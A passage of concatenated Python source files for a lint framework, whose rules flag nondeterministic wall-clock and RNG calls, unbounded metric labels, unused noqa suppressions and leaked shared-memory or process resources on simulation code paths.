This module must stay import-free of the rest of :mod:`repro.analysis`
(rules, engine, call graph) — it is the bottom of the import graph, so
both the rule package and the analysis framework can use it without
cycles.
"""

from __future__ import annotations

import ast

__all__ = ["dotted_name"]


def dotted_name(node: ast.AST) -> str | None:
    """``a.b.c`` for a Name/Attribute chain, or None for anything else."""
    parts: list[str] = []
    current = node
    while isinstance(current, ast.Attribute):
        parts.append(current.attr)
        current = current.value
    if not isinstance(current, ast.Name):
        return None
    parts.append(current.id)
    return ".".join(reversed(parts))
