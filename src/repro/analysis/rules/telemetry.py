"""Telemetry rule: bounded metric label cardinality.

Every label value handed to the metrics registry becomes part of a
metric's identity, and the registry keeps one time series per identity
forever.  A label built from packet contents or formatted strings (flow
5-tuples, payload digests, timestamps) therefore grows without bound —
the classic cardinality explosion.  Labels must come from finite
vocabularies: enum values, instance/chain identifiers, plain names.
"""

from __future__ import annotations

import ast
from typing import TYPE_CHECKING, Iterator

from repro.analysis.findings import Finding
from repro.analysis.rules import Rule, dotted_name, register_rule

if TYPE_CHECKING:  # pragma: no cover - types only
    from repro.analysis.engine import LintContext

#: Registry accessor methods whose keyword arguments are metric labels.
_METRIC_FACTORIES = frozenset(
    {"counter", "gauge", "gauge_callback", "histogram"}
)

#: Keyword arguments of those accessors that are *not* labels.
_NON_LABEL_KEYWORDS = frozenset({"buckets", "callback"})

#: Call targets that manufacture unbounded strings.
_FORMATTING_CALLS = frozenset({"str", "repr", "hex", "oct", "bin", "format"})


def _is_unbounded_label(value: ast.expr) -> bool:
    """True for label values drawn from an unbounded vocabulary."""
    if isinstance(value, ast.JoinedStr):  # f-string
        return True
    if isinstance(value, ast.BinOp):  # concatenation / %-formatting
        return True
    if isinstance(value, ast.Call):
        name = dotted_name(value.func)
        if name in _FORMATTING_CALLS:
            return True
        # method call ending in .format / .join on anything
        if isinstance(value.func, ast.Attribute) and value.func.attr in (
            "format",
            "join",
        ):
            return True
    return False


@register_rule
class LabelCardinalityRule(Rule):
    """TEL001: metric labels must come from finite vocabularies."""

    code = "TEL001"
    summary = (
        "metric label values must be finite (enum members, ids, plain "
        "names) — never formatted or concatenated strings"
    )
    node_types = (ast.Call,)

    def visit(self, node: ast.AST, context: "LintContext") -> Iterator[Finding]:
        assert isinstance(node, ast.Call)
        func = node.func
        if not isinstance(func, ast.Attribute):
            return
        if func.attr not in _METRIC_FACTORIES:
            return
        for keyword in node.keywords:
            if keyword.arg is None or keyword.arg in _NON_LABEL_KEYWORDS:
                continue
            if _is_unbounded_label(keyword.value):
                yield context.finding(
                    keyword.value,
                    self.code,
                    f"label {keyword.arg!r} of {func.attr}() is built from "
                    "a formatted string; label values must come from a "
                    "finite vocabulary (enum, id, plain name)",
                )
