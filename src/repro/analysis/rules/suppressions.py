"""NOQ001: the suppression audit.

A ``# repro: noqa[CODE]`` that suppresses nothing is debt: it documents
a finding that no longer exists (the code was fixed, or the rule
changed) and it will silently swallow the *next* finding that lands on
its line.  The engine records every suppression comment and marks the
ones that earned their keep; this rule flags the rest.

Fairness rules:

* a bracketed suppression is only judged when every registered code it
  names actually ran (``--select RES`` must not flag an unused
  ``noqa[DET001]``);
* a blanket ``# repro: noqa`` is only judged on full-catalog runs;
* codes that are not registered at all are always flagged — they can
  never suppress anything;
* NOQ001 findings are warnings, and are themselves **not** suppressible:
  the fix is deleting the comment, not stacking another one.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Iterator

from repro.analysis.findings import Finding
from repro.analysis.rules import RULE_REGISTRY, Rule, register_rule

if TYPE_CHECKING:  # pragma: no cover - types only
    from repro.analysis.program import Program


@register_rule
class UnusedSuppressionRule(Rule):
    """NOQ001: every noqa comment must suppress a live finding."""

    code = "NOQ001"
    summary = "a # repro: noqa comment that suppresses nothing (delete it)"
    severity = "warning"
    #: Runs after every other rule's findings have marked usage.
    finish_priority = 100
    suppressible = False

    def finish(self, program: "Program") -> Iterator[Finding]:
        registered = frozenset(RULE_REGISTRY)
        for record in program.suppressions:
            if record.used_codes:
                continue
            if record.codes is None:
                if not program.complete:
                    continue
                message = (
                    "blanket '# repro: noqa' suppresses nothing; delete it"
                )
            else:
                known = record.codes & registered
                if known and not known <= program.ran_codes:
                    continue  # those rules did not run; cannot judge
                unknown = record.codes - registered
                listed = ",".join(sorted(record.codes))
                if unknown:
                    names = ", ".join(sorted(unknown))
                    message = (
                        f"'# repro: noqa[{listed}]' names unregistered "
                        f"code(s) {names} and suppresses nothing; delete "
                        "or fix it"
                    )
                else:
                    message = (
                        f"'# repro: noqa[{listed}]' suppresses nothing; "
                        "delete it"
                    )
            yield Finding(
                path=record.path,
                line=record.line,
                col=0,
                code=self.code,
                message=message,
                severity=self.severity,
            )
