"""Determinism rules: sim-clock discipline and ordered iteration.

These rules only apply to modules on the simulation paths
(``repro.net`` and ``repro.core``).  A simulation's behaviour must be a
pure function of its inputs and seed: the same scenario run twice must
schedule the same packets in the same order and produce byte-identical
telemetry.  Wall-clock reads and process-global randomness break replay;
iterating a ``set`` lets hash randomization pick the order downstream
packet scheduling observes.
"""

from __future__ import annotations

import ast
from typing import TYPE_CHECKING, Iterator

from repro.analysis.findings import Finding
from repro.analysis.rules import Rule, dotted_name, register_rule

if TYPE_CHECKING:  # pragma: no cover - types only
    from repro.analysis.engine import LintContext
    from repro.analysis.program import Program

#: Wall-clock call targets.  ``time.perf_counter``/``time.monotonic`` are
#: deliberately allowed: they measure *durations* for telemetry and never
#: feed back into simulated behaviour.
_WALL_CLOCK_CALLS = frozenset(
    {
        "time.time",
        "time.time_ns",
        "time.localtime",
        "time.gmtime",
        "time.ctime",
        "time.strftime",
        "datetime.now",
        "datetime.utcnow",
        "datetime.today",
        "datetime.datetime.now",
        "datetime.datetime.utcnow",
        "datetime.datetime.today",
        "date.today",
        "datetime.date.today",
    }
)

#: Functions of the process-global (unseeded) ``random`` module RNG.
_GLOBAL_RNG_CALLS = frozenset(
    {
        "random.betavariate",
        "random.choice",
        "random.choices",
        "random.expovariate",
        "random.gauss",
        "random.getrandbits",
        "random.lognormvariate",
        "random.normalvariate",
        "random.randbytes",
        "random.randint",
        "random.random",
        "random.randrange",
        "random.sample",
        "random.shuffle",
        "random.triangular",
        "random.uniform",
        "random.vonmisesvariate",
    }
)


@register_rule
class WallClockRule(Rule):
    """DET001: no wall clock or unseeded randomness on simulation paths."""

    code = "DET001"
    summary = (
        "simulation paths must use the simulator clock and a seeded RNG, "
        "never the wall clock or the global random module"
    )
    node_types = (ast.Call,)

    def visit(self, node: ast.AST, context: "LintContext") -> Iterator[Finding]:
        assert isinstance(node, ast.Call)
        if not context.in_sim_scope:
            return
        name = dotted_name(node.func)
        if name is None:
            return
        if name in _WALL_CLOCK_CALLS:
            yield context.finding(
                node,
                self.code,
                f"wall-clock call {name}() on a simulation path; "
                "use the simulator clock",
            )
        elif name in _GLOBAL_RNG_CALLS:
            yield context.finding(
                node,
                self.code,
                f"global-RNG call {name}() on a simulation path; "
                "use a seeded random.Random instance",
            )
        elif name in ("random.Random", "random.SystemRandom"):
            if name == "random.SystemRandom" or not (node.args or node.keywords):
                yield context.finding(
                    node,
                    self.code,
                    f"{name}() without a seed on a simulation path; "
                    "pass an explicit seed",
                )


def _is_unordered_expr(node: ast.expr) -> bool:
    """True for expressions that statically evaluate to a ``set``."""
    if isinstance(node, (ast.Set, ast.SetComp)):
        return True
    if isinstance(node, ast.Call):
        name = dotted_name(node.func)
        if name in ("set", "frozenset"):
            return True
    if isinstance(node, ast.BinOp) and isinstance(
        node.op, (ast.BitOr, ast.BitAnd, ast.Sub, ast.BitXor)
    ):
        # Set algebra: either operand being a set makes the result one.
        return _is_unordered_expr(node.left) or _is_unordered_expr(node.right)
    return False


def _is_set_annotation(annotation: ast.expr) -> bool:
    """True for ``set``/``frozenset`` annotations, bare or subscripted."""
    if isinstance(annotation, ast.Subscript):
        annotation = annotation.value
    name = dotted_name(annotation)
    return name in ("set", "frozenset", "typing.Set", "typing.FrozenSet")


def _set_typed_attributes(tree: ast.Module) -> frozenset[str]:
    """Attribute/field names the module evidently uses for sets.

    Two sources of evidence: annotations (``x: set = ...`` instance or
    dataclass fields) and assignments of set expressions to attributes
    (``self.x = set(...)``).  The inference is per-name, module-wide — a
    name reused for a non-set elsewhere in the same module would be a
    false positive, which ``# repro: noqa[DET002]`` exists for.
    """
    names: set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.AnnAssign) and _is_set_annotation(node.annotation):
            if isinstance(node.target, ast.Attribute):
                names.add(node.target.attr)
            elif isinstance(node.target, ast.Name):
                names.add(node.target.id)
        elif isinstance(node, ast.Assign) and _is_unordered_expr(node.value):
            for target in node.targets:
                if isinstance(target, ast.Attribute):
                    names.add(target.attr)
    return frozenset(names)


@register_rule
class UnorderedIterationRule(Rule):
    """DET002: no iteration over unordered sets on simulation paths."""

    code = "DET002"
    summary = (
        "iteration order over sets is hash-dependent; sort (or use a "
        "dict/list) before iterating on a simulation path"
    )
    node_types = (
        ast.For,
        ast.AsyncFor,
        ast.ListComp,
        ast.SetComp,
        ast.DictComp,
        ast.GeneratorExp,
    )

    def __init__(self) -> None:
        self._set_attributes: frozenset[str] = frozenset()

    def prepare(self, context: "LintContext") -> None:
        self._set_attributes = (
            _set_typed_attributes(context.tree)
            if context.in_sim_scope
            else frozenset()
        )

    def _flags(self, iter_expr: ast.expr) -> str | None:
        if _is_unordered_expr(iter_expr):
            return (
                "iteration over an unordered set on a simulation path; "
                "wrap it in sorted() or iterate a deterministic container"
            )
        if (
            isinstance(iter_expr, ast.Attribute)
            and iter_expr.attr in self._set_attributes
        ):
            return (
                f"iteration over set-typed attribute .{iter_expr.attr} on a "
                "simulation path; wrap it in sorted() or iterate a "
                "deterministic container"
            )
        return None

    def visit(self, node: ast.AST, context: "LintContext") -> Iterator[Finding]:
        if not context.in_sim_scope:
            return
        if isinstance(node, (ast.For, ast.AsyncFor)):
            iters = [node.iter]
        else:
            assert isinstance(
                node, (ast.ListComp, ast.SetComp, ast.DictComp, ast.GeneratorExp)
            )
            iters = [generator.iter for generator in node.generators]
        for iter_expr in iters:
            message = self._flags(iter_expr)
            if message is not None:
                yield context.finding(iter_expr, self.code, message)


@register_rule
class TransitiveNondeterminismRule(Rule):
    """DET003: sim-scoped calls must not *transitively* reach the wall
    clock or the global RNG.

    DET001 flags the direct call inside the offending helper; this rule
    flags every sim-scoped **call site** whose target reaches a sink
    through any chain of program functions (same module or across
    modules, via the lint run's call graph).  Direct sink calls are left
    to DET001 so each line carries exactly one code.
    """

    code = "DET003"
    summary = (
        "a sim-scoped call transitively reaches the wall clock or the "
        "global random module through helper functions"
    )

    def finish(self, program: "Program") -> Iterator[Finding]:
        sinks = _WALL_CLOCK_CALLS | _GLOBAL_RNG_CALLS
        graph = program.call_graph
        reaches = graph.transitive_reach(lambda name: name in sinks)
        contexts = {context.module: context for context in program.contexts}
        for qualname, info in sorted(graph.functions.items()):
            context = contexts.get(info.module)
            if context is None or not context.in_sim_scope:
                continue
            for site in info.calls:
                target = site.target
                if target is None or target == qualname:
                    continue
                if site.raw in sinks or target in sinks:
                    continue  # direct sink: DET001's finding
                if target not in reaches or target not in graph.functions:
                    continue
                reach = reaches[target]
                hop = f" via {reach.via}()" if reach.via else ""
                label = site.raw or target
                yield context.finding(
                    site.node,
                    self.code,
                    f"{label}() transitively reaches {reach.sink}(){hop}; "
                    "simulation paths must use the simulator clock and "
                    "seeded RNG instances",
                )
