"""Rule framework and the project rule catalog.

A rule subclasses :class:`Rule`, declares a unique ``code``, the AST
node types it wants to see, and yields findings from :meth:`Rule.visit`.
Registration happens through :func:`register_rule`, which keeps
:data:`RULE_REGISTRY` (code -> rule class) that the engine, the CLI and
the documentation all read.

Catalog:

========  ==================================================================
DET001    wall-clock / unseeded randomness on simulation paths
DET002    iteration over unordered sets on simulation paths
TEL001    unbounded metric label cardinality
API001    mutable default argument
API002    in-repo call to a deprecated DPIController lifecycle shim
KER001    scan-kernel public method outside the kernel contract surface
PARSE001  (engine-emitted) unparseable module
========  ==================================================================
"""

from __future__ import annotations

import ast
from typing import TYPE_CHECKING, Iterator, Type

from repro.analysis.findings import Finding

if TYPE_CHECKING:  # pragma: no cover - import cycle guard, types only
    from repro.analysis.engine import LintContext

#: Every registered rule class, keyed by code.
RULE_REGISTRY: dict[str, Type["Rule"]] = {}


class Rule:
    """Base class for lint rules.

    Subclasses set :attr:`code` (stable identifier, used in reports and
    ``# repro: noqa[CODE]`` suppressions), :attr:`summary` (one line for
    the catalog) and :attr:`node_types` (the AST node classes the engine
    dispatches to :meth:`visit`).
    """

    code: str = ""
    summary: str = ""
    node_types: tuple[type[ast.AST], ...] = ()

    def prepare(self, context: "LintContext") -> None:
        """Called once per module before the walk; collect module facts."""

    def visit(self, node: ast.AST, context: "LintContext") -> Iterator[Finding]:
        """Yield findings for one dispatched node."""
        raise NotImplementedError
        yield  # pragma: no cover - makes every override a generator


def register_rule(cls: Type[Rule]) -> Type[Rule]:
    """Class decorator adding a rule to :data:`RULE_REGISTRY`."""
    if not cls.code:
        raise ValueError(f"rule {cls.__name__} has no code")
    existing = RULE_REGISTRY.get(cls.code)
    if existing is not None and existing is not cls:
        raise ValueError(f"duplicate rule code {cls.code!r}")
    RULE_REGISTRY[cls.code] = cls
    return cls


def dotted_name(node: ast.AST) -> str | None:
    """``a.b.c`` for a Name/Attribute chain, or None for anything else."""
    parts: list[str] = []
    current = node
    while isinstance(current, ast.Attribute):
        parts.append(current.attr)
        current = current.value
    if not isinstance(current, ast.Name):
        return None
    parts.append(current.id)
    return ".".join(reversed(parts))


def default_rules() -> list[Rule]:
    """One instance of every registered rule, ordered by code."""
    return [RULE_REGISTRY[code]() for code in sorted(RULE_REGISTRY)]


__all__ = [
    "RULE_REGISTRY",
    "Rule",
    "default_rules",
    "dotted_name",
    "register_rule",
]

# Importing the rule modules populates the registry; this must come after
# Rule/register_rule exist because each module imports them from here.
from repro.analysis.rules import (  # noqa: E402,F401
    api,
    determinism,
    kernel,
    telemetry,
)
