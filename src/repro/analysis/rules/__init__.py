"""Rule framework and the project rule catalog.

A rule subclasses :class:`Rule`, declares a unique ``code``, the AST
node types it wants to see, and yields findings from :meth:`Rule.visit`.
Rules that need whole-program facts (control-flow paths, the call graph,
suppression usage) override :meth:`Rule.finish`, which runs once per
lint run with a :class:`~repro.analysis.program.Program`.  Registration
happens through :func:`register_rule`, which keeps
:data:`RULE_REGISTRY` (code -> rule class) that the engine, the CLI and
the documentation all read.

Catalog:

========  ==================================================================
DET001    wall-clock / unseeded randomness on simulation paths
DET002    iteration over unordered sets on simulation paths
DET003    sim-scoped call transitively reaching wall clock / global RNG
TEL001    unbounded metric label cardinality
API001    mutable default argument
API002    in-repo call to a deprecated DPIController lifecycle shim
KER001    scan-kernel public method outside the kernel contract surface
RES001    resource acquisition with an exit path that skips release
RES002    resource escapes to an attribute with no owning teardown
CON001    thread/lock/fed-queue state live before a fork Process start
CON002    queue protocol violation (put/get after close, double close)
NOQ001    ``# repro: noqa`` comment that suppresses nothing (warning)
PARSE001  (engine-emitted) unparseable module
========  ==================================================================
"""

from __future__ import annotations

import ast
from typing import TYPE_CHECKING, Iterator, Type

from repro.analysis.astutil import dotted_name
from repro.analysis.findings import Finding

if TYPE_CHECKING:  # pragma: no cover - import cycle guard, types only
    from repro.analysis.engine import LintContext
    from repro.analysis.program import Program

#: Every registered rule class, keyed by code.
RULE_REGISTRY: dict[str, Type["Rule"]] = {}


class Rule:
    """Base class for lint rules.

    Subclasses set :attr:`code` (stable identifier, used in reports and
    ``# repro: noqa[CODE]`` suppressions), :attr:`summary` (one line for
    the catalog) and :attr:`node_types` (the AST node classes the engine
    dispatches to :meth:`visit`).  Project-phase rules override
    :meth:`finish` instead of (or as well as) :meth:`visit`;
    :attr:`finish_priority` orders the phase (NOQ001 runs last, after
    every other rule's findings have marked their suppressions used) and
    :attr:`suppressible` is cleared by rules whose findings must not be
    noqa'd away (the suppression audit itself).
    """

    code: str = ""
    summary: str = ""
    node_types: tuple[type[ast.AST], ...] = ()
    severity: str = "error"
    finish_priority: int = 0
    suppressible: bool = True

    def prepare(self, context: "LintContext") -> None:
        """Called once per module before the walk; collect module facts."""

    def visit(self, node: ast.AST, context: "LintContext") -> Iterator[Finding]:
        """Yield findings for one dispatched node."""
        raise NotImplementedError
        yield  # pragma: no cover - makes every override a generator

    def finish(self, program: "Program") -> Iterator[Finding]:
        """Yield findings once per lint run, after every module's walk."""
        return iter(())


def register_rule(cls: Type[Rule]) -> Type[Rule]:
    """Class decorator adding a rule to :data:`RULE_REGISTRY`."""
    if not cls.code:
        raise ValueError(f"rule {cls.__name__} has no code")
    existing = RULE_REGISTRY.get(cls.code)
    if existing is not None and existing is not cls:
        raise ValueError(f"duplicate rule code {cls.code!r}")
    RULE_REGISTRY[cls.code] = cls
    return cls


def default_rules() -> list[Rule]:
    """One instance of every registered rule, ordered by code."""
    return [RULE_REGISTRY[code]() for code in sorted(RULE_REGISTRY)]


__all__ = [
    "RULE_REGISTRY",
    "Rule",
    "default_rules",
    "dotted_name",
    "register_rule",
]

# Importing the rule modules populates the registry; this must come after
# Rule/register_rule exist because each module imports them from here.
from repro.analysis.rules import (  # noqa: E402,F401
    api,
    concurrency,
    determinism,
    kernel,
    resources,
    suppressions,
    telemetry,
)
