"""Resource-lifecycle rules: RES001 (leaky exit path), RES002 (unowned
escape).

The sharded/zerocopy stack (PRs 5-7) acquires real operating-system
resources — ``multiprocessing.shared_memory`` arenas, fork-context
worker processes, per-worker queues — at high churn.  The /dev/shm leak
tests only cover paths the tests thought to exercise; these rules close
the gap statically by running a forward dataflow over every function's
CFG (:mod:`repro.analysis.cfg`, :mod:`repro.analysis.dataflow`):

* **RES001** — a locally-acquired resource has a path to the function's
  exit on which it is neither released (``close``/``unlink``/``join``/
  ``shutdown``/...), registered with ``weakref.finalize``, handed off
  (returned, stored into a container/attribute, passed to a callee) nor
  managed by a ``with`` block.  The rule also checks the *acquisition
  window*: a call made while a resource is held, outside any
  ``try``/``finally``, leaks the resource if it raises — that is exactly
  the "instance crashed mid-provision" churn path the autoscaler
  exercises.
* **RES002** — a resource constructor assigned to ``self.<attr>`` in a
  class none of whose methods ever releases that attribute: the resource
  escaped the function, but no owner has a teardown for it.

Acquisitions are recognized by constructor name (``SharedMemory``,
``Process``, ``Pool``, ``Queue``, ``Thread``, ...) and — via the
module-level call graph — by calls to *resource factories*: functions
that return a fresh resource, directly or through another factory
(``_create_segment`` style).  That is what lets ownership facts
propagate transitively instead of stopping at the first helper.
"""

from __future__ import annotations

import ast
from typing import TYPE_CHECKING, Iterator

from repro.analysis.astutil import dotted_name
from repro.analysis.callgraph import CallSite
from repro.analysis.cfg import CFG, Block
from repro.analysis.dataflow import State, TransferClient, run_forward
from repro.analysis.findings import Finding
from repro.analysis.rules import Rule, register_rule

if TYPE_CHECKING:  # pragma: no cover - types only
    from repro.analysis.engine import LintContext
    from repro.analysis.program import Program

__all__ = [
    "ACQUISITION_CONSTRUCTORS",
    "RELEASE_VERBS",
    "acquisition_kind",
    "resource_factories",
]

#: Trailing constructor name -> resource kind.  Deliberately the
#: concurrency/shared-memory surface only: file handles and sockets have
#: reference-count teardown; these do not.
ACQUISITION_CONSTRUCTORS: dict[str, str] = {
    "SharedMemory": "shared-memory segment",
    "Process": "process",
    "Pool": "process pool",
    "Queue": "queue",
    "JoinableQueue": "queue",
    "SimpleQueue": "queue",
    "Thread": "thread",
}

#: Method names that release (or arrange release of) a resource.
RELEASE_VERBS = frozenset(
    {
        "close",
        "unlink",
        "join",
        "join_thread",
        "shutdown",
        "terminate",
        "kill",
        "stop",
        "release",
    }
)

#: Dataflow facts.
ACQUIRED = "acquired"
RELEASED = "released"
ESCAPED = "escaped"


def acquisition_kind(
    call: ast.Call,
    sites: dict[int, CallSite] | None = None,
    factories: frozenset[str] | set[str] = frozenset(),
) -> str | None:
    """The resource kind a call acquires, or None.

    Constructor names are matched on the trailing attribute
    (``context.Process`` and ``multiprocessing.Process`` alike); calls
    resolving — per the call graph — to a resource factory count as
    acquisitions of kind ``resource``.
    """
    name = dotted_name(call.func)
    if name is not None:
        kind = ACQUISITION_CONSTRUCTORS.get(name.rsplit(".", 1)[-1])
        if kind is not None:
            return kind
    if sites:
        site = sites.get(id(call))
        if site is not None and site.target in factories:
            return "resource"
    return None


def _is_direct_acquisition_return(expression: ast.expr, info: object) -> bool:
    return isinstance(expression, ast.Call) and (
        acquisition_kind(expression) is not None
    )


def resource_factories(program: "Program") -> frozenset[str]:
    """Qualnames of functions that return a fresh resource (transitive)."""
    return frozenset(
        program.call_graph.returning_functions(_is_direct_acquisition_return)
    )


# --- statement decomposition -------------------------------------------------


def _header_exprs(statement: ast.stmt) -> list[ast.AST]:
    """The expressions a CFG block statement actually evaluates.

    Compound statements appear in blocks as *headers* (their bodies live
    in successor blocks), so only the header expression may be scanned —
    walking the whole node would double-count body effects.
    """
    if isinstance(statement, (ast.If, ast.While)):
        return [statement.test]
    if isinstance(statement, (ast.For, ast.AsyncFor)):
        return [statement.iter]
    if isinstance(statement, (ast.With, ast.AsyncWith)):
        return [item.context_expr for item in statement.items]
    if isinstance(statement, ast.Try):
        return []
    if isinstance(statement, ast.ExceptHandler):
        return [statement.type] if statement.type is not None else []
    return [statement]


def _calls_in(statement: ast.stmt) -> list[ast.Call]:
    return [
        node
        for expression in _header_exprs(statement)
        for node in ast.walk(expression)
        if isinstance(node, ast.Call)
    ]


def _assigned_names(function: ast.AST) -> set[str]:
    """Bare names the function body assigns (local object roots)."""
    names: set[str] = set()
    for node in ast.walk(function):
        if isinstance(node, ast.Name) and isinstance(
            node.ctx, (ast.Store, ast.Del)
        ):
            names.add(node.id)
    return names


def _param_names(function: ast.FunctionDef | ast.AsyncFunctionDef) -> set[str]:
    args = function.args
    params = [
        *args.posonlyargs,
        *args.args,
        *args.kwonlyargs,
    ]
    if args.vararg is not None:
        params.append(args.vararg)
    if args.kwarg is not None:
        params.append(args.kwarg)
    return {param.arg for param in params}


# --- the RES001 dataflow client ----------------------------------------------


class _Acquisition:
    """One tracked acquisition site."""

    def __init__(self, key: str, kind: str, node: ast.AST) -> None:
        self.key = key
        self.kind = kind
        self.node = node


class _ResourceClient(TransferClient):
    """Tracks acquired-resource state through one function."""

    def __init__(
        self,
        cfg: CFG,
        sites: dict[int, CallSite],
        factories: frozenset[str],
    ) -> None:
        self.cfg = cfg
        self.sites = sites
        self.factories = factories
        function = cfg.function
        params = _param_names(function)
        #: Names eligible as tracked roots: assigned locally, not
        #: parameters (an attribute of a parameter already has an owner).
        self.local_roots = _assigned_names(function) - params - {"self"}
        #: key -> first acquisition site (stable across fixpoint visits).
        self.acquisitions: dict[str, _Acquisition] = {}
        #: (key, line, col) -> risky call node, for window findings.
        self.windows: dict[tuple[str, int, int], ast.AST] = {}

    # -- key helpers --------------------------------------------------------

    def _target_key(self, target: ast.expr) -> str | None:
        if isinstance(target, ast.Name):
            return target.id
        if isinstance(target, ast.Attribute):
            name = dotted_name(target)
            if name is not None and name.split(".", 1)[0] in self.local_roots:
                return name
        return None

    def _keys_for_name(self, name: str, state: State) -> set[str]:
        """Tracked keys a dotted name denotes (itself or as a root)."""
        found = {key for key in state if key == name}
        prefix = name + "."
        found.update(key for key in state if key.startswith(prefix))
        return found

    def _expr_keys(self, expression: ast.AST, state: State) -> set[str]:
        """Tracked keys an expression references (itself or as a root)."""
        name = dotted_name(expression)
        if name is None:
            return set()
        return self._keys_for_name(name, state)

    def _mention_keys(self, expression: ast.AST, state: State) -> set[str]:
        """Tracked keys an expression *hands off* to a consumer.

        Descends through containers and operators but never into an
        attribute chain: passing ``seg.name`` (a plain string) mentions
        ``seg.name``, not the segment itself, so it is not an escape.
        """
        found: set[str] = set()
        stack: list[ast.AST] = [expression]
        while stack:
            node = stack.pop()
            name = dotted_name(node)
            if name is not None:
                found |= self._keys_for_name(name, state)
                continue
            stack.extend(ast.iter_child_nodes(node))
        return found

    # -- state edits --------------------------------------------------------

    def _set(self, state: State, key: str, fact: str) -> State:
        updated = dict(state)
        updated[key] = frozenset((fact,))
        return updated

    def _drop_rooted(self, state: State, root: str) -> State:
        prefix = root + "."
        return {
            key: facts
            for key, facts in state.items()
            if key != root and not key.startswith(prefix)
        }

    def _escape(self, state: State, keys: set[str]) -> State:
        if not keys:
            return state
        updated = dict(state)
        for key in keys:
            updated[key] = frozenset((ESCAPED,))
        return updated

    def _acquire(self, state: State, key: str, kind: str, node: ast.AST) -> State:
        if key not in self.acquisitions:
            self.acquisitions[key] = _Acquisition(key, kind, node)
        return self._set(state, key, ACQUIRED)

    # -- transfer -----------------------------------------------------------

    def transfer(self, statement: ast.stmt, state: State) -> State:
        state = self._transfer_assignment(statement, state)
        state = self._transfer_calls(statement, state)
        state = self._transfer_control(statement, state)
        return state

    def _transfer_assignment(self, statement: ast.stmt, state: State) -> State:
        if isinstance(statement, (ast.With, ast.AsyncWith)):
            # with-managed acquisitions release on every path.
            for item in statement.items:
                if (
                    isinstance(item.context_expr, ast.Call)
                    and acquisition_kind(
                        item.context_expr, self.sites, self.factories
                    )
                    is not None
                    and isinstance(item.optional_vars, ast.Name)
                ):
                    state = self._set(
                        state, item.optional_vars.id, RELEASED
                    )
            return state
        if isinstance(statement, (ast.For, ast.AsyncFor)):
            for node in ast.walk(statement.target):
                if isinstance(node, ast.Name):
                    state = self._drop_rooted(
                        {
                            key: facts
                            for key, facts in state.items()
                            if key != node.id
                        },
                        node.id,
                    )
            return state
        if isinstance(statement, ast.ExceptHandler):
            if statement.name is not None:
                state = {
                    key: facts
                    for key, facts in state.items()
                    if key != statement.name
                }
            return state
        targets: list[ast.expr] = []
        value: ast.expr | None = None
        if isinstance(statement, ast.Assign):
            targets = statement.targets
            value = statement.value
        elif isinstance(statement, ast.AnnAssign) and statement.value is not None:
            targets = [statement.target]
            value = statement.value
        if value is None:
            return state
        target_key = None
        for target in targets:
            target_key = self._target_key(target)
            if target_key is not None:
                break
        kind = (
            acquisition_kind(value, self.sites, self.factories)
            if isinstance(value, ast.Call)
            else None
        )
        source_keys = self._expr_keys(value, state)
        if target_key is not None:
            # Reassignment drops the old binding (and anything rooted in
            # it) before the new value lands.
            state = self._drop_rooted(
                {k: f for k, f in state.items() if k != target_key}, target_key
            )
        if kind is not None:
            if target_key is not None:
                state = self._acquire(state, target_key, kind, value)
            # Anonymous acquisition (argument position, subscript store,
            # attribute of a parameter): owned elsewhere, not tracked.
        elif source_keys:
            if target_key is not None and len(source_keys) == 1:
                # Alias/move: the new name carries the resource...
                (source,) = source_keys
                if source in state and ACQUIRED in state[source]:
                    acquisition = self.acquisitions.get(source)
                    if acquisition is not None:
                        self.acquisitions.setdefault(target_key, acquisition)
                    state = self._set(state, target_key, ACQUIRED)
            # ...and the old one is handed off either way.
            state = self._escape(state, source_keys)
        else:
            # Tuple targets and other stores: kill any named bindings.
            for target in targets:
                for node in ast.walk(target):
                    if isinstance(node, ast.Name):
                        state = {
                            key: facts
                            for key, facts in state.items()
                            if key != node.id
                        }
        return state

    def _transfer_calls(self, statement: ast.stmt, state: State) -> State:
        for call in _calls_in(statement):
            name = dotted_name(call.func)
            # weakref.finalize(owner, fn, *args): everything handed to the
            # finalizer — and anything rooted in it — is release-managed.
            if name is not None and name.rsplit(".", 1)[-1] == "finalize":
                for argument in [*call.args, *(k.value for k in call.keywords)]:
                    for key in self._mention_keys(argument, state):
                        state = self._set(state, key, RELEASED)
                continue
            # q.close() / seg.unlink() / p.join() on a tracked key.
            if isinstance(call.func, ast.Attribute) and (
                call.func.attr in RELEASE_VERBS
            ):
                receiver = dotted_name(call.func.value)
                if receiver is not None and receiver in state:
                    state = self._set(state, receiver, RELEASED)
                    # fall through: arguments may still escape things
            # A tracked key passed as an argument is handed off.
            escaped: set[str] = set()
            for argument in [*call.args, *(k.value for k in call.keywords)]:
                if isinstance(argument, ast.Call):
                    continue  # nested call handled by its own iteration
                escaped |= self._mention_keys(argument, state)
            state = self._escape(state, escaped)
        return state

    def _transfer_control(self, statement: ast.stmt, state: State) -> State:
        if isinstance(statement, ast.Return) and statement.value is not None:
            # Returning the resource itself (or a container holding it)
            # transfers ownership; returning a derived value such as
            # ``segment.name`` does not.
            state = self._escape(
                state, self._mention_keys(statement.value, state)
            )
        elif isinstance(statement, ast.Delete):
            for target in statement.targets:
                key = self._target_key(target)
                if key is not None:
                    state = self._escape(state, {key})
        return state

    # -- the acquisition-window check ---------------------------------------

    def observe(
        self,
        statement: ast.stmt,
        before: State,
        after: State,
        block: Block,
    ) -> None:
        if block.protected:
            return
        calls = _calls_in(statement)
        if not calls:
            return
        held = frozenset((ACQUIRED,))
        for key, facts in before.items():
            if facts != held:
                continue
            if after.get(key) != held:
                continue  # this statement releases/hands off the key
            anchor = calls[0]
            position = (
                key,
                getattr(anchor, "lineno", 0),
                getattr(anchor, "col_offset", 0),
            )
            self.windows.setdefault(position, anchor)


@register_rule
class ResourceLeakRule(Rule):
    """RES001: every acquisition must be released on every exit path."""

    code = "RES001"
    summary = (
        "a SharedMemory/Process/Pool/Queue acquisition has an exit path "
        "(or an unguarded raise window) that skips close/unlink/join/"
        "finalize"
    )

    def finish(self, program: "Program") -> Iterator[Finding]:
        factories = resource_factories(program)
        graph = program.call_graph
        for context in program.contexts:
            for qualname, cfg in sorted(program.cfgs_for(context).items()):
                info = graph.functions.get(f"{context.module}.{qualname}")
                sites = (
                    {id(site.node): site for site in info.calls}
                    if info is not None
                    else {}
                )
                client = _ResourceClient(cfg, sites, factories)
                states = run_forward(cfg, client)
                if not client.acquisitions:
                    continue
                flagged: set[str] = set()
                for exit_block, where in (
                    (cfg.exit, "function exit"),
